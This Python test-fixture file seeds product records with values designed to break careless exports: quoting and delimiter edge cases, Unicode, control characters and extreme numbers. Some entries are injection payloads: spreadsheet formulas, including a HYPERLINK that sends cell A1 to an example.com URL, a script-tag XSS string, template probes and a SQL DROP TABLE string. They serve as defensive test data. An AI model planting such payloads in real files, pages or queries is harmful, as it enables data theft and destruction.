"""Values that break careless exports: every seeded tenant has them all from 500 items on."""

from decimal import Decimal
from typing import NamedTuple


class Hostile(NamedTuple):
    name: str
    description: str | None = ""
    tags: tuple[str, ...] = ()
    quantity: int = 1
    price: Decimal = Decimal("9.99")


HOSTILE = (
    Hostile("Bolt, hex head, M8 × 40, zinc", "Box of 50, 100, or 500", ("a,b", "c;d")),
    Hostile('Monitor arm for 27" screens', 'The "good" one, says ""everybody""', ('27"',)),
    Hostile("Tea towel, “Grandma’s Kitchen”", "Curly ‘quotes’, „low ones“ and «these»"),
    Hostile("=SUM(A1:A9)", '=HYPERLINK("http://example.com/?x="&A1,"Click")', ("=1+1",)),
    Hostile("+44 dial-plan handset", "+1+1", ("+",), 2_147_483_647),
    Hostile("-20 °C thermometer", "-2+3", ("-",), -12, Decimal("-3.50")),
    Hostile("@home doormat", "@SUM(1)", ("@",)),
    Hostile("\tRoll of labels, tab first", "\t=1", ("\t",)),
    Hostile("\rCarriage return first", "\r=1"),
    Hostile("\nLine feed first", "\n=1"),
    Hostile("＝ full-width sign set", "＋１ and ＠ and －", ("＝",)),
    Hostile("'Quoted' mug", "''=1", ("'",)),
    Hostile("Notebook\nwith a line break", "First line\nsecond line\n\nfourth line\n"),
    Hostile("Letterbox\r\nfrom another system", "One\r\ntwo\rthree"),
    Hostile("Party mug 🎉👩‍🚀🏳️‍🌈", "Flags 🇳🇴🇮🇪, skin 👍🏽, beyond the plane 𝔘𠜎", ("🎁", "né")),
    Hostile("Crème brûlée torch, naïve façade", "e\u0301 is not é until normalised"),
    Hostile("折り畳み傘 (umbrella)", "مصباح مكتب, יומן, лампа, ไฟฉาย"),
    Hostile("Back\\slash tape \\N \\. \\t", "\\.\n\\N\n\\\\", ("\\", "\\N", "\\u0041")),
    Hostile('<script>alert("shelf")</script> bracket', "<b>&amp;</b> {{ 7*7 }} ${7*7} %s %(x)s"),
    Hostile("Robert'); DROP TABLE items;--", "null", ("NULL", "null", "")),
    Hostile("NULL", None, ("NULL",), 0, Decimal("0.00")),
    Hostile("  spaces around  ", " ", (" ",), 0, Decimal("9999999999.99")),
    Hostile("Zero\u200bwidth, no\u00a0break, \ufeffBOM", "Separators \u2028 and \u2029, DEL \x7f"),
    Hostile("00123", "1E5", ("007", "1e999", "2026-02-30", "TRUE")),
    Hostile("Long " + "name " * 38 + "end", "A long story. " * 400, ("long",) * 40),
)
